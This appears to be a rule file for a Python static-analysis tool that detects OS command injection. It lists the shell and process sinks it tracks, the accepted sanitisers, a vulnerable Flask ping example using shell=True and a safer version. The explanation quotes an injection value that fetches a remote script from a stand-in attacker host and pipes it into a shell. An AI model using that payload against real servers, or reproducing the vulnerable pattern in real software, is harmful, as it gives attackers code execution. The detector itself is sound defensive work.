/**
 * command-injection: request data reaching a shell command or the program a process runs.
 *
 * Decisions:
 * - With a shell (`os.system`, `os.popen`, `subprocess.*(shell=True)`,
 *   `asyncio.create_subprocess_shell`) the whole command string is the sink.
 * - Without a shell only the program is: `subprocess.run(["ping", host])` passes `host` as one
 *   argument and is not command injection (argument injection into a specific tool is a different
 *   problem). A program that is itself a shell (`["sh", "-c", cmd]`) makes every argument a sink.
 * - `shlex.quote` neutralises input for this rule only.
 */
import type { TaintRule } from "../src/rule.js";
import { COMMAND_FIX_DOCS, commandFix } from "./lib/command-fix.js";

export const rule: TaintRule = {
  meta: {
    id: "command-injection",
    name: "CommandInjection",
    shortDescription: "User input reaches an operating-system command",
    fullDescription:
      "Data from an HTTP request is built into a command run by a shell, or chooses the program that is executed, so the client can run arbitrary commands with the server's privileges.",
    docs: {
      whatItDoes:
        "Follows request data from every entry point pysast models (web stacks, serverless handlers, GraphQL resolvers, task queues; see `docs/frameworks.md`) to `os.system`, `os.popen`, `subprocess.run/call/check_call/check_output/Popen` with `shell=True` (the command string) or without a shell (the program, the first element of the argument list), `subprocess.getoutput`, `os.exec*`, `os.spawn*`, `os.posix_spawn`, `pty.spawn` and `asyncio.create_subprocess_shell/exec`.\n\nArguments passed as separate list elements to a program that is not a shell are not reported; neither is input quoted with `shlex.quote`, converted with `int()` or inserted with a numeric conversion (`%d`, `{n:d}`), checked against an allow-list (`in` a constant collection, `x == \"a\" or x == \"b\"`, `{x} & ALLOWED`, `set(x) <= SAFE_CHARS`, an `Enum(x)` lookup) or fully matched by a regular expression over letters, digits, `_` and `-`, nor input that cannot contain `'` placed inside a single-quoted word of the shell command. A program that may be a shell on one branch (`sh` here, `cmd.exe` there) makes the whole argument list a command line.",
      whyBad:
        "A shell interprets `;`, `&&`, `|`, backticks, `$(...)` and newlines, so a host name like `example.com; curl evil.sh | sh` runs a second command. Whoever controls the program name runs whatever binary they like. Either way the attacker gets code execution as the web server's user.",
      example: [
        "import subprocess",
        "",
        "from flask import Flask, request",
        "",
        "app = Flask(__name__)",
        "",
        "",
        '@app.route("/ping")',
        "def ping():",
        '    host = request.args["host"]',
        '    out = subprocess.run("ping -c 1 " + host, shell=True, capture_output=True, text=True)',
        "    return out.stdout",
        "",
      ].join("\n"),
      useInstead: [
        "import subprocess",
        "",
        "from flask import Flask, request",
        "",
        "app = Flask(__name__)",
        "",
        "",
        '@app.route("/ping")',
        "def ping():",
        '    host = request.args["host"]',
        '    out = subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, text=True)',
        "    return out.stdout",
        "",
      ].join("\n"),
      useInsteadText:
        "Pass an argument list without `shell=True`, with a fixed program, and end options with `--` so the input cannot be read as a flag. If a shell is unavoidable, quote every interpolated value with `shlex.quote`. Better still, validate the input against an allow-list or a strict pattern first, or use a library call instead of a command.",
      fix: COMMAND_FIX_DOCS,
      references: [
        { title: "CWE-78: Improper Neutralization of Special Elements used in an OS Command", url: "https://cwe.mitre.org/data/definitions/78.html" },
        { title: "OWASP Top 10 2021 A03: Injection", url: "https://owasp.org/Top10/A03_2021-Injection/" },
        { title: "OWASP OS Command Injection Defense Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html" },
        { title: "Python subprocess: security considerations", url: "https://docs.python.org/3/library/subprocess.html#security-considerations" },
        { title: "Python shlex.quote", url: "https://docs.python.org/3/library/shlex.html#shlex.quote" },
      ],
    },
    cwe: [78],
    owasp: ["A03:2021-Injection"],
    level: "error",
    securitySeverity: "9.8",
    precision: "high",
    tags: ["security", "injection", "taint", "external/cwe/cwe-78"],
    frameworks: ["flask", "django", "fastapi", "subprocess", "os", "asyncio"],
    aliases: { bandit: ["B602", "B605"], ruff: ["S602", "S605"] },
    kind: "taint",
    fixSafety: ["unsafe"],
  },
  sinkKinds: ["command"],
  fix: (finding, fix) => commandFix(fix.nodeAt(finding.region, "call"), fix),
};
